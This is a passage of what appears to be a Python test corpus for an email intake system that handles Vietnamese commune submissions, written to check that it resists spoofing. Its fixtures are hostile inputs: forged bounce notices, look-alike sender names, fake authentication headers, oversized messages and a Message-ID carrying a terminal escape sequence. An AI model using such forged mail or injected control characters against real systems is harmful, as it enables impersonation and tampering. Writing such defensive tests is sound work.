            "forged-dsn-plain-text",
            7,
            lambda mid: raw_mail(
                headers(
                    mid, "MAILER-DAEMON@attacker.example", "Delivery Status Notification (Failure)"
                ),
                f"Delivery to {MUONG_SO} failed permanently.".encode(),
            ),
            ("bounce",),
            extra={"not_failing": MUONG_SO},
        ),
        # 8: a unit is spoken for by its own address, or provisionally with the unit told.
        Case(
            "stranger-names-unit",
            8,
            unit_mail(stranger, "Hồ sơ Dân vận khéo xã Mường So", MS_FORMS),
            ("submission", "needs-review"),
            not_by_address=True,
            acks=(MUONG_SO,),
        ),
        Case(
            "stranger-names-unit-in-form-only",
            8,
            unit_mail(stranger, "Hồ sơ", MS_FORMS),
            ("submission", "needs-review"),
            not_by_address=True,
            acks=(MUONG_SO,),
        ),
        Case(
            "cyrillic-look-alike-name",
            8,
            unit_mail(stranger, cyrillic("Hồ sơ xã Mường So"), []),
            HELD_OR_IGNORED,
            not_by_address=True,
            acks=NOTHING,
        ),
        Case(
            "cyrillic-look-alike-with-forms",
            8,
            unit_mail(stranger, cyrillic("Hồ sơ xã Dào San"), [MS_FORMS[1]]),
            HELD,
            not_by_address=True,
            acks=NOTHING,
        ),
        Case(
            "greek-look-alike-name",
            8,
            unit_mail(stranger, greek("Hồ sơ xã Dào San"), [MS_FORMS[1]]),
            HELD,
            not_by_address=True,
            acks=NOTHING,
        ),
        Case(
            "fullwidth-name",
            8,
            unit_mail(stranger, fullwidth("Ho so xa Dao San"), [MS_FORMS[1]]),
            HELD,  # a name in fullwidth letters is a disguise too
            not_by_address=True,
            acks=NOTHING,
            review_reason=True,
        ),
        Case(
            "dmarc-fail-unit-address",
            8,
            unit_mail(
                MUONG_SO,
                SUBJECT,
                None,
                *auth_results(
                    f"{a_r} dkim=none; spf=fail smtp.mailfrom=example.vn; dmarc=fail (p=NONE) header.from=example.vn"
                ),
            ),
            ("needs-review",),
            review_reason=True,
            acks=NOTHING,
        ),
        Case(
            "spf-and-dkim-fail-unit-address",
            8,
            unit_mail(
                DAO_SAN,
                SUBJECT,
                DS_FORMS,
                *auth_results(
                    f"{a_r} spf=softfail smtp.mailfrom=example.vn; dkim=fail header.d=example.vn"
                ),
            ),
            ("needs-review",),
            review_reason=True,
            acks=NOTHING,
        ),
        Case(
            "forged-pass-below-real-fail",
            8,
            unit_mail(
                VP,
                SUBJECT,
                None,
                *auth_results(
                    f"{a_r} dmarc=fail header.from=example.vn",
                    f"{a_r} spf=pass; dkim=pass; dmarc=pass",
                ),
            ),
            ("needs-review",),
            review_reason=True,
            acks=NOTHING,
        ),
        Case(
            "other-authserv-says-fail",
            8,
            unit_mail(
                VP,
                SUBJECT,
                None,
                *auth_results(
                    "mx.attacker.example; dmarc=fail",
                    f"{a_r} spf=pass smtp.mailfrom=example.vn; dkim=pass header.d=example.vn; dmarc=pass",
                ),
            ),
            SUB,
            "cq-vp",
            acks=(VP,),
        ),
        Case(
            "control-dmarc-pass",
            8,
            unit_mail(
                DAO_SAN,
                SUBJECT,
                DS_FORMS,
                *auth_results(
                    f"{a_r} spf=pass smtp.mailfrom=example.vn; dkim=pass header.d=example.vn; dmarc=pass header.from=example.vn"
                ),
            ),
            SUB,
            "xa-dao-san",
            acks=(DAO_SAN,),
        ),
        Case(
            "control-spf-fail-dkim-pass",
            8,
            unit_mail(
                MUONG_SO,
                SUBJECT,
                None,
                *auth_results(
                    f"{a_r} spf=fail smtp.mailfrom=example.vn; dkim=pass header.d=example.vn"
                ),
            ),
            SUB,
            "xa-muong-so",
        ),
        # 9: the rest.
        Case(
            "over-max-message-bytes",
            9,
            unit_mail(
                VP, SUBJECT, [("scan.pdf", "application/pdf", os.urandom(6 * MB)), *MS_FORMS]
            ),
            ("too-large",),
            "cq-vp",
            acks=NOTHING,
        ),
        Case(
            "message-id-100KB",
            9,
            lambda mid: raw_mail(headers(big_mid, MUONG_SO, SUBJECT), files=MS_FORMS),
            SUB,
            "xa-muong-so",
            acks=(MUONG_SO,),
            extra={"raw_mid": True},
        ),
        Case(
            "same-id-and-size-first",
            9,
            lambda mid: same_size(same)[0],
            HELD_OR_IGNORED,
            extra={"raw_mid": True},
        ),
        Case(
            "same-id-and-size-second",
            9,
            lambda mid: same_size(same)[1],
            SUB,
            "xa-muong-so",
            forms=("mau-01", "mau-02"),
            extra={"raw_mid": True},
        ),
        Case(
            "message-id-with-controls",
            9,
            lambda mid: raw_mail(
                headers("<a\x1b[2Jb@example.vn>", DAO_SAN, SUBJECT), files=DS_FORMS
            ),
            SUB,
            "xa-dao-san",
            extra={"raw_mid": True},
        ),
    ]


def corpus() -> list[Case]:
    cases = [*_groups_1(), *_groups_2_to_5(), *_group_6(), *_groups_7_to_9()]
    assert len({c.name for c in cases}) == len(cases)
    return cases


def same_size(mid: str) -> tuple[bytes, bytes]:
    """A stranger's mail and a unit's, with the same Message-ID and the same size."""
    first = raw_mail(headers(mid, "x@attacker.example", "Xin chào"), b"x" * 200_000)
    second = raw_mail(headers(mid, MUONG_SO, SUBJECT), files=MS_FORMS)
    assert len(second) < len(first)
    return first, second.replace(b"Kinh gui", b"Kinh gui" + b" " * (len(first) - len(second)), 1)
